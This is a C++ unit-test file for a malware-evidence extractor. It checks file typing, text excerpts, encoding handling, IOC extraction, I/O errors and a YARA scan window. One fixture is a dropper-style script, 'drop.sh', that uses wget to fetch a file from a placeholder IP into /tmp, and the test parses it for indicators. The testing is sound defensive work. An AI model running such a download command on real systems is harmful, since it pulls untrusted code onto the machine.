#include <athena/evidence.hpp>
#include <athena/rules.hpp>

#include <doctest/doctest.h>

#include <sys/stat.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <random>
#include <string>
#include <vector>

namespace fs = std::filesystem;

namespace {

// A folder under the system temp folder, removed with everything in it at scope exit.
class ScratchDir {
public:
    ScratchDir() {
        std::random_device seed;
        m_path = fs::temp_directory_path() /
                 ("athena-test-evidence-" + std::to_string(seed()) + std::to_string(seed()));
        fs::create_directories(m_path);
    }
    ~ScratchDir() {
        std::error_code ignored;
        fs::remove_all(m_path, ignored);
    }
    ScratchDir(const ScratchDir&) = delete;
    ScratchDir& operator=(const ScratchDir&) = delete;

    fs::path write(const std::string& name, const std::string& content) const {
        fs::path path = m_path / name;
        std::ofstream(path, std::ios::binary) << content;
        return path;
    }

    const fs::path& path() const { return m_path; }

private:
    fs::path m_path;
};

std::span<const std::uint8_t> bytes_of(const std::string& text) {
    return {reinterpret_cast<const std::uint8_t*>(text.data()), text.size()};
}

std::unique_ptr<athena::EvidenceExtractor>
make_extractor(std::shared_ptr<const athena::RuleSet> rules = nullptr,
               athena::EvidenceOptions options = {}) {
    auto extractor = athena::EvidenceExtractor::create(std::move(rules), options);
    REQUIRE(extractor.has_value());
    return std::move(*extractor);
}

bool contains(const std::vector<std::string>& values, const std::string& value) {
    return std::ranges::find(values, value) != values.end();
}

} // namespace

TEST_CASE("EvidenceExtractor: text files") {
    ScratchDir dir;
    auto extractor = make_extractor();

    SUBCASE("a script read from disk carries type, excerpt and IOCs") {
        std::string script = "#!/bin/sh\nwget -q http://198.51.100.7/x -O /tmp/x\n";
        fs::path path = dir.write("drop.sh", script);

        auto evidence = extractor->extract(path, {});

        REQUIRE(evidence.has_value());
        CHECK(evidence->size_bytes == script.size());
        CHECK(evidence->is_text);
        CHECK(evidence->mime_type == "text/x-shellscript");
        CHECK(evidence->excerpt == script);
        CHECK(evidence->entropy == doctest::Approx(athena::shannon_entropy(bytes_of(script))));
        CHECK(contains(evidence->urls, "http://198.51.100.7/x"));
        CHECK(contains(evidence->ips, "198.51.100.7"));
        CHECK(contains(evidence->file_paths, "/tmp/x"));
        CHECK(evidence->yara_matches.empty());
    }

    SUBCASE("content given by the caller is used without opening the path") {
        std::string text = "plain words for the excerpt\n";

        auto evidence = extractor->extract(dir.path() / "not-there.txt", bytes_of(text));

        REQUIRE(evidence.has_value());
        CHECK(evidence->size_bytes == text.size());
        CHECK(evidence->mime_type == "text/plain");
        CHECK(evidence->excerpt == text);
    }

    SUBCASE("invalid UTF-8 in the excerpt becomes U+FFFD") {
        std::string text = "caf\xc3\xa9 \xff ok and more plain text here\n";

        auto evidence = extractor->extract(dir.path() / "latin.txt", bytes_of(text));

        REQUIRE(evidence.has_value());
        REQUIRE(evidence->is_text);
        CHECK(evidence->excerpt == "caf\xc3\xa9 \xef\xbf\xbd ok and more plain text here\n");
    }

    SUBCASE("the excerpt is cut without splitting a character") {
        athena::EvidenceOptions options;
        options.excerpt_bytes = 5;
        auto short_extractor = make_extractor(nullptr, options);
        std::string text = "abcd\xc3\xa9 and some more text to look like a text file\n";

        auto evidence = short_extractor->extract(dir.path() / "cut.txt", bytes_of(text));

        REQUIRE(evidence.has_value());
        REQUIRE(evidence->is_text);
        CHECK(evidence->excerpt == "abcd");
    }

    SUBCASE("UTF-16 text with a byte order mark is transcoded") {
        std::string text = "\xff\xfe";
        for (char c : std::string("Write-Host hello from a wide script\r\n")) {
            text.push_back(c);
            text.push_back('\0');
        }

        auto evidence = extractor->extract(dir.path() / "wide.ps1", bytes_of(text));

        REQUIRE(evidence.has_value());
        REQUIRE(evidence->is_text);
        CHECK(evidence->excerpt == "Write-Host hello from a wide script\r\n");
    }
}

TEST_CASE("EvidenceExtractor: binaries and errors") {
    ScratchDir dir;
    auto extractor = make_extractor();

    SUBCASE("an ELF executable is typed and has no excerpt") {
        auto evidence = extractor->extract("/proc/self/exe", {});

        REQUIRE(evidence.has_value());
        CHECK(evidence->file_type.starts_with("ELF"));
        CHECK_FALSE(evidence->is_text);
        CHECK(evidence->excerpt.empty());
        CHECK(evidence->entropy > 0.0);
        CHECK_FALSE(evidence->strings.empty());
    }

    SUBCASE("a missing file is an io error naming the path") {
        fs::path missing = dir.path() / "missing.bin";

        auto evidence = extractor->extract(missing, {});

        REQUIRE_FALSE(evidence.has_value());
        CHECK(evidence.error().kind == "io");
        CHECK(evidence.error().message.find(missing.string()) != std::string::npos);
        CHECK(evidence.error().message.find("No such file") != std::string::npos);
    }

    SUBCASE("a folder is an io error") {
        auto evidence = extractor->extract(dir.path(), {});

        REQUIRE_FALSE(evidence.has_value());
        CHECK(evidence.error().kind == "io");
        CHECK(evidence.error().message.find("not a regular file") != std::string::npos);
    }

    SUBCASE("a FIFO is rejected without waiting for a writer") {
        fs::path fifo = dir.path() / "pipe";
        REQUIRE(::mkfifo(fifo.c_str(), 0600) == 0);

        auto evidence = extractor->extract(fifo, {});

        REQUIRE_FALSE(evidence.has_value());
        CHECK(evidence.error().kind == "io");
        CHECK(evidence.error().message.find("not a regular file") != std::string::npos);
    }

    SUBCASE("an empty file yields empty evidence") {
        fs::path path = dir.write("empty", "");

        auto evidence = extractor->extract(path, {});

        REQUIRE(evidence.has_value());
        CHECK(evidence->size_bytes == 0);
        CHECK(evidence->entropy == 0.0);
        CHECK(evidence->strings.empty());
    }
}

TEST_CASE("EvidenceExtractor: scan window") {
    ScratchDir dir;
    fs::path rule_file = dir.write("late.yar", "rule late_marker {\n"
                                               "  strings: $a = \"LATE-MARKER-7f3a\"\n"
                                               "  condition: $a\n"
                                               "}\n");
    auto rules = athena::RuleSet::compile({rule_file});
    REQUIRE(rules.has_value());
    athena::EvidenceOptions options;
    options.scan_window_bytes = 1024;
    auto extractor = make_extractor(*rules, options);
    std::string content(4096, '\x01');
    std::string late = " http://late.example.com/ LATE-MARKER-7f3a ";
    content.replace(3000, late.size(), late);
    fs::path path = dir.write("big.bin", content);

    auto evidence = extractor->extract(path, {});

    REQUIRE(evidence.has_value());
    CHECK(evidence->size_bytes == 4096);
    CHECK(evidence->urls.empty()); // strings and IOCs come from the first 1024 bytes only
    REQUIRE(evidence->yara_matches.size() == 1); // YARA reads the whole file
    CHECK(evidence->yara_matches[0].rule == "late_marker");
    CHECK(evidence->yara_matches[0].ns == "late");
}
